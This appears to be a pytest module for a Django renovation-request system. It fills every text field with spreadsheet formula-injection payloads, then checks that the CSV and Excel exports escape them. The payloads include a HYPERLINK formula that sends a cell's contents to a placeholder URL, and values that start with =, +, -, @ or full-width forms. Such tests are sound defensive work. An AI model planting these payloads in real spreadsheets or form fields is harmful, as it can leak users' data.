"""No export turns typed text into a spreadsheet formula.

A compound renamed `=HYPERLINK("http://…"&A1,"点击")`, a wish left online that starts with
`+`, `-` or `@`, a branch named with a full-width `＝`: in a CSV opened in Excel, or in an
.xlsx cell edited there, each would become a formula that computes, links out or leaks the
sheet. Every text field of every model of the three apps gets such a value, then every
export is read back cell by cell: no cell is a formula but the monthly workbook's own, and
every cell whose text would start one is marked as text (an apostrophe in a CSV, Excel's
quote prefix in an .xlsx)."""

import csv
import io
import re
import unicodedata
from itertools import cycle

import openpyxl
import pytest
from django.apps import apps
from django.core.cache import cache
from django.db.models import CharField, TextField, Value
from django.db.models.functions import Cast, Concat, Left
from django.urls import reverse
from django.utils import timezone

from renovation.report_workbook import build_workbook
from renovation.selectors.report import Month
from tests.world import build_world

MARK = "恶意"  # in every hostile value, to find the cells that hold one
HOSTILE = [
    f'=HYPERLINK("http://example.invalid/?"&A1,"{MARK}")',
    f"+1+1{MARK}",
    f"-1+1{MARK}",
    f"@SUM(1){MARK}",
    f"\t=1+1{MARK}",
    f"\r=1+1{MARK}",
    f"＝1+1{MARK}",  # full-width: Excel reads these as = + - @ too
    f"＋1{MARK}",
    f"－1{MARK}",
    f"＠A1{MARK}",
    f" =1+1{MARK}",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The workbook's own formulas: cells, numbers, arithmetic, SUM/IF/COUNTIF and quoted words
# ("逾期"), none of them a hostile value's.
OWN_FORMULA = re.compile(rf'=(?:[A-Z0-9$(),:+\-*/<>=. ]|"[^"{MARK[0]}]*")+')


def starts_a_formula(text: str) -> bool:
    """This test's own reading of what a spreadsheet would take for a formula."""
    if text[:1] in ("\t", "\r"):
        return True
    return unicodedata.normalize("NFKC", text).lstrip(" ")[:1] in TRIGGERS


def _text_fields(model) -> list:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, CharField | TextField) and not field.choices and not field.primary_key
    ]


def make_every_text_hostile() -> None:
    """Every text field of every model of the three apps (history tables aside) holds a
    hostile value, kept unique with the row's id where the field must be."""
    values = cycle(HOSTILE)
    for app in ("renovation", "residents", "partycells"):
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical") or model._meta.proxy:
                continue
            changes = {}
            for field in _text_fields(model):
                value = next(values)
                pk = Cast("pk", output_field=TextField())
                if field.max_length and field.max_length < len(value) + 10:
                    # A short field (a building number): the value's start, the row's id
                    # (for fields that must be unique), the mark.
                    text = Left(
                        Concat(Value(value[:2]), pk, Value(MARK), output_field=TextField()),
                        field.max_length,
                    )
                else:
                    text = Concat(Value(value), pk, output_field=TextField())
                changes[field.name] = text
            if changes:
                model._default_manager.update(**changes)


@pytest.fixture
def hostile_world(registry, users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    cache.clear()
    world = build_world(registry, users, tmp_path)
    make_every_text_hostile()
    cache.clear()
    return world


def _check_csv(content: bytes) -> int:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    marked = 0
    for row in rows:
        for cell in row:
            assert not starts_a_formula(cell), repr(cell)
            if MARK in cell:
                marked += 1
                assert cell.startswith("'") and starts_a_formula(cell[1:]), repr(cell)
    return marked


def _check_workbook(content: bytes, *, has_formulas: bool = False) -> int:
    """Check every cell; return how many hold a hostile value. The workbook's own formulas
    (totals, rates, changes) only add, compare and divide cells: no text, no link."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    marked = formulas = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    value = str(cell.value)
                    assert OWN_FORMULA.fullmatch(value), (sheet.title, value)
                    assert "HYPERLINK" not in value
                    formulas += 1
                elif isinstance(cell.value, str):
                    if starts_a_formula(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    marked += MARK in cell.value
    assert bool(formulas) == has_formulas
    return marked


@pytest.mark.parametrize("role", ["programme_office", "community_staff", "sub_district_staff"])
def test_the_requests_csv_has_no_formula(client, hostile_world, users, role):
    client.force_login(users[role])
    response = client.get(reverse("request-export"))
    assert response.status_code == 200
    # Names of communities, compounds and categories, places, descriptions, contact names.
    assert _check_csv(response.content) >= 6


def test_the_monthly_workbook_has_no_formula_but_its_own(hostile_world):
    today = timezone.localdate()
    marked = 0
    for month in (Month.parse("2022-04"), Month.of(today)):
        marked += _check_workbook(build_workbook(month), has_formulas=True)
    assert marked >= 10


def test_the_progress_template_has_no_formula(client, hostile_world, users):
    client.force_login(users["programme_office"])
    response = client.get(reverse("progress-template"))
    assert response.status_code == 200
    assert _check_workbook(response.content) >= 3  # sub-district, …


def test_the_registry_template_has_no_formula(client, hostile_world, users):
    client.force_login(users["programme_office"])
    response = client.get(reverse("registry-template"))
    assert response.status_code == 200
    _check_workbook(response.content)


def test_the_hostile_values_are_what_a_spreadsheet_takes_for_formulas():
    assert all(starts_a_formula(value) for value in HOSTILE)
    assert not starts_a_formula(f"顶楼漏水{MARK}")
